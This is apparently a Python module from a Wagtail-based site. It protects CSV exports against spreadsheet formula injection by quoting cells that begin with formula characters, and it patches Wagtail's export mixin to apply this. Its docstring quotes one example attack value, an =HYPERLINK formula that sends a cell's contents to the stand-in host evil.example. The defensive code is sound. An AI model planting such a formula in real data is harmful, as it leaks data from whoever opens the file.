"""Spreadsheet-safe exports: no cell of a CSV the hub writes can become a live formula.

A participant may call herself ``=HYPERLINK("http://evil.example/?x="&A1,"click")``; opened in
a spreadsheet, such a cell runs. As spreadsheet-safe exporters do (OWASP's advice), a text cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in
front, which spreadsheets read as "this is text" and do not show. A plain number such as
``-12`` or ``-3.5`` is left alone: it cannot run.

Every CSV the hub writes is a Wagtail listing or report export (registrations, the missing
translations report, Wagtail's own reports, form submissions): ``install()``, called from
HubConfig.ready(), makes Wagtail's ``SpreadsheetExportMixin`` pass each CSV cell, headings
included, through ``neutralise()``. Any future CSV writer (open data, archives) uses
``safe_row()`` or ``neutralise()`` too. The XLSX export needs nothing: Wagtail already stores a
cell openpyxl would take for a formula as text.
"""

import csv
import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def neutralise(value):
    """``value`` as a spreadsheet shows it but never evaluates it (non-text values unchanged)."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def safe_row(row):
    """A CSV row (a list or a dict of cells) with every cell neutralised."""
    if isinstance(row, dict):
        return {key: neutralise(value) for key, value in row.items()}
    return [neutralise(value) for value in row]


def install():
    """Neutralise every cell of every CSV written by Wagtail's spreadsheet exports."""
    from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_hub_safe_csv", False):
        return

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            safe_row(
                {
                    field: self.preprocess_field_value(field, value, self.FORMAT_CSV)
                    for field, value in row_dict.items()
                }
            )
        )

    def stream_csv(self, queryset):
        # Wagtail's, with the heading row neutralised too: headings can be editors' words
        # (the form builder's field labels).
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export)
        headings = {field: self.get_heading(queryset, field) for field in self.list_export}
        yield writer.writerow(safe_row(headings))
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    SpreadsheetExportMixin.write_csv_row = write_csv_row
    SpreadsheetExportMixin.stream_csv = stream_csv
    SpreadsheetExportMixin._hub_safe_csv = True
